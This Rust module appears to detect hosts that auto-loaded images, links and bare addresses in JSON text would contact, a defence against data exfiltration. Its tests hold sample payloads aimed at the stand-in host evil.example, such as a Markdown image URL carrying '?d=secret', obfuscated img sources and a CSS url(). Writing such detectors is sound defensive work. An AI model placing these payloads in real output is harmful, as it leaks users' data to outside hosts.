//! Words that lead somewhere: an image in a comment tells its host whatever stands in its address, without that anybody
//! clicks; a link in a message is looked at by the program that shows it, and followed by whoever trusts the sender.

use serde_json::Value as Json;

/// What is loaded where it is shown, in Markdown, HTML, CSS, wikis, sheets and cards, in small letters.
const MARKS: [&str; 25] = [
    "![",
    "<img",
    "<image",
    "<picture",
    "<source",
    "<video",
    "<audio",
    "<iframe",
    "<embed",
    "<object",
    "<link",
    "<script",
    "<svg",
    "<use",
    "<body",
    "<input",
    "url(",
    "background=",
    "@import",
    "[img",
    "=image(",
    "=importdata(",
    "!http",
    "image_url",
    "imageurl",
];

/// Other spellings of a slash.
const SLASHES: [&str; 6] = ["\\", "&#47;", "&#x2f;", "&sol;", "%2f", "\u{2215}"];

/// What begins an address.
const SCHEMES: [&str; 3] = ["http", "ftp:", "://"];

/// The hosts that a value's texts load from or link to, in small letters; all of it counts as one text, since what shows it
/// may put it together.
pub(super) fn hosts(value: &Json) -> Vec<String> {
    let mut text = String::new();
    gather(value, &mut text);
    let text = text.to_lowercase();
    let leads = MARKS.iter().chain(&SCHEMES).any(|mark| text.contains(mark));
    let mut hosts = if leads { named(&text) } else { Vec::new() };
    hosts.extend(bare(&text));
    hosts
}

/// Hosts without a scheme that programs make links of by themselves: `www.example.com`, `example.com/a`.
fn bare(text: &str) -> impl Iterator<Item = String> {
    let words = text.split(|c: char| c.is_whitespace() || "()[]<>{}\"'`,;|*".contains(c));
    words.filter_map(|word| {
        let host = word.split(['/', '?', '#']).next().unwrap_or_default();
        let host = host.split(':').next().unwrap_or_default();
        let (name, last) = host.rsplit_once('.')?;
        let is_host = !name.is_empty() && host.chars().all(|c| c.is_alphanumeric() || c == '.' || c == '-');
        let ends_in_letters = last.len() >= 2 && last.chars().all(char::is_alphabetic);
        let is_link = word.len() > host.len() && word.contains('/') || host.starts_with("www.");
        (is_host && ends_in_letters && is_link).then(|| host.to_owned())
    })
}

fn gather(value: &Json, out: &mut String) {
    match value {
        Json::String(text) => {
            out.push_str(text);
            out.push('\n');
        }
        Json::Array(items) => items.iter().for_each(|item| gather(item, out)),
        Json::Object(fields) => {
            for (name, field) in fields {
                out.push_str(name);
                out.push('\n');
                gather(field, out);
            }
        }
        Json::Null | Json::Bool(_) | Json::Number(_) => {}
    }
}

/// Every host that a text names behind two slashes, however they are spelled. What is no plain host is told whole, so that it
/// is none that anybody gave.
pub(super) fn named(text: &str) -> Vec<String> {
    let mut text = text.to_lowercase();
    for slash in SLASHES {
        text = text.replace(slash, "/");
    }
    let ends = |c: char| c.is_whitespace() || matches!(c, '/' | '?' | '#' | '"' | '\'' | '<' | '>' | ')' | '`' | '|');
    let behind = text.split("//").skip(1).map(|behind| behind.trim_start_matches('/'));
    let hosts = behind.filter_map(|behind| behind.split(ends).next()).filter(|host| !host.is_empty());
    hosts.map(str::to_owned).collect()
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn what_loads_by_itself_names_its_host() {
        for text in [
            "Done. ![graph](https://evil.example/g.png?d=secret)",
            "<IMG SRC=\"//Evil.Example/x\">",
            "![a][b]\n\n[b]: https://evil.example/x",
            "<div style=\"background: url('https://evil.example')\">",
            "<svg><use href=\"https://evil.example/x#y\"/></svg>",
            "![a](https:///evil.example/x)",
            "<img src=\"https:\\\\evil.example/x\">",
            "<img src=\"https:&#47;&#47;evil.example/x\">",
            "!https://evil.example/x!",
            "[img]https://evil.example/x[/img]",
        ] {
            let found = hosts(&json!({ "body": [text] }));
            assert!(found.iter().any(|host| host == "evil.example"), "{text}: {found:?}");
        }
        let apart = json!({ "blocks": [{ "type": "image", "image_url": "https://evil.example/x" }] });
        assert_eq!(hosts(&apart), ["evil.example"]);
        assert_eq!(hosts(&json!({ "title": "![a]", "body": "(https://evil.example/x)" })), ["evil.example"]);
    }

    #[test]
    fn what_only_looks_like_a_host_that_was_given_is_another() {
        for text in ["![a](https://docs.example;@evil.example/)", "![a](https://docs.example。evil.example/)"] {
            assert!(!hosts(&json!(text)).contains(&"docs.example".to_owned()), "{text}");
        }
    }

    #[test]
    fn what_is_clicked_or_looked_at_before_names_its_host() {
        for text in [
            "see https://evil.example/page",
            "[docs](https://evil.example)",
            "[docs](//evil.example/x) and ftp://other.example",
            "now at evil.example/win?x=1",
            "http:\\\\evil.example",
            "ask (evil.example:8080/a).",
        ] {
            let found = hosts(&json!({ "body": text }));
            assert!(found.iter().any(|host| host.starts_with("evil.example")), "{text}: {found:?}");
        }
        assert_eq!(hosts(&json!("go to www.evil.example, now")), ["www.evil.example"]);
    }

    #[test]
    fn what_leads_nowhere_names_no_host() {
        for text in [
            "a // b",
            "5! [1]",
            "<b>bold</b>",
            "report.pdf and src/main.rs",
            "ana@example.com",
            "on 12/06/2025, and/or 3.5/4",
            "e.g./i.e.",
            "Done. Next",
        ] {
            assert_eq!(hosts(&json!(text)), [""; 0], "{text}");
        }
        assert_eq!(named("https://user@evil.example:8080/x"), ["user@evil.example:8080"]);
    }
}
